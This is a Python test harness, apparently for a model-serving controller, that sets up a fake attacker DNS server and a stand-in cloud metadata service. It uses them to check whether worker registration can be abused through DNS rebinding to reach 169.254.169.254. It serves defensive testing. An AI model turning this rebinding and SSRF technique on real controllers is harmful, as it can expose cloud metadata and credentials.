"""A network with a name server of an attacker and a metadata service. It runs in a network namespace of its own.

    python rebinding_lab.py <port of the controller>

The name server on 127.0.0.1:53 answers the first look-ups of `rebind.attack` with 127.0.0.1, and all later ones with
169.254.169.254. `metadata.attack` always has that address, where a server stands for the metadata service of a cloud.

Prints what happened as JSON.
"""

import json
import socket
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

METADATA, HONEST = "169.254.169.254", "127.0.0.1"
PORT = 8000
STATUS = json.dumps({"model_names": ["m"], "speed": 1, "queue_length": 0}).encode()


class NameServer(threading.Thread):
    """Answers questions for the A record of a name. Other records do not exist."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind(("127.0.0.1", 53))
        self.rebound = False
        self.answers: list[tuple[str, str]] = []

    def run(self) -> None:
        while True:
            question, sender = self.socket.recvfrom(512)
            labels, position = [], 12
            while length := question[position]:
                labels.append(question[position + 1 : position + 1 + length].decode())
                position += 1 + length
            name, kind, end = ".".join(labels), question[position + 1 : position + 3], position + 5
            found = b""
            if kind == b"\x00\x01" and name in ("rebind.attack", "metadata.attack"):
                address = METADATA if self.rebound or name == "metadata.attack" else HONEST
                self.answers.append((name, address))
                # A pointer to the name, type A, class IN, a time to live of 0 s, and the address.
                found = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x04" + socket.inet_aton(address)
            counts = b"\x00\x01" + (b"\x00\x01" if found else b"\x00\x00") + b"\x00\x00\x00\x00"
            self.socket.sendto(question[:2] + b"\x85\x80" + counts + question[12:end] + found, sender)


def server(address: str) -> list[str]:
    """Start a worker at an address. Return the list to which it adds the path of each request."""
    requests: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            requests.append(self.path)
            body = STATUS if self.path.endswith("status") else b"{}"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()  # HTTP/1.0, so each request needs a new connection
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    threading.Thread(target=ThreadingHTTPServer((address, PORT), Handler).serve_forever, daemon=True).start()
    return requests


def call(path: str, body: object = None, method: str = "POST") -> tuple[int, Any]:
    url = f"http://127.0.0.1:{sys.argv[1]}{path}"
    request = urllib.request.Request(url, None if method == "GET" else json.dumps(body).encode(), method=method)
    try:
        with urllib.request.urlopen(request, timeout=60) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())
    except OSError:
        return 0, None


def wait_for(condition: Any) -> None:
    deadline = time.monotonic() + 60
    while not condition():
        if time.monotonic() > deadline:
            raise SystemExit("timed out")
        time.sleep(0.05)


def main() -> None:
    names = NameServer()
    names.start()
    honest, metadata = server(HONEST), server(METADATA)
    wait_for(lambda: call("/readyz", method="GET")[0] == 200)
    results: dict[str, Any] = {}

    # The attack works without the controller's help: this machine reaches the service by the name.
    with urllib.request.urlopen(f"http://metadata.attack:{PORT}/status", b"", timeout=60):
        pass
    results["reachable"] = metadata[:]
    metadata.clear()

    for name in (f"http://{METADATA}:{PORT}", f"http://metadata.attack:{PORT}"):
        registration = {"worker_name": name, "check_heart_beat": False}
        results[name] = call("/register_worker", registration)[0]

    name = f"http://rebind.attack:{PORT}"
    results["registered"] = call("/register_worker", {"worker_name": name, "check_heart_beat": False})[0]
    wait_for(lambda: len(honest) > 2)  # the registration and some polls
    results["forwarded"] = call("/worker_generate", {"model": "m"})[1]
    names.rebound = True
    looked_up = len(names.answers)

    def workers() -> Any:
        return call("/workers", method="GET")[1]["workers"]

    wait_for(lambda: len(names.answers) > looked_up and workers()[0]["failing"])
    results["answers"] = names.answers[-1]
    results["forwarded later"] = call("/worker_generate", {"model": "m"})[1].get("error_code")
    results["refreshed"] = call("/refresh_all_workers")[0]
    results["metadata"] = metadata
    sys.stdout.write(json.dumps(results))


if __name__ == "__main__":
    main()
